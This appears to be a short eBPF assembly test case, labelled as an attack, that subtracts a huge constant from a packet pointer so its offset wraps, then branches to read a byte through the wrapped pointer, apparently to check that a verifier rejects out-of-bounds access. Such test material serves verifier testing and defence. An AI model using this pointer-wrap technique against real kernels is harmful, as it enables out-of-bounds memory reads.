# Attack: subtract a huge constant from a packet pointer so that its
# offset would wrap, then compare it with the packet start.
ldxw r2, [r1+0]
ldxw r3, [r1+4]
mov64 r4, r2
lddw r5, 0x7ffffffffffffff0
sub64 r4, r5
jge r4, r2, +2
ldxb r0, [r4+0]
exit
mov64 r0, 2
exit
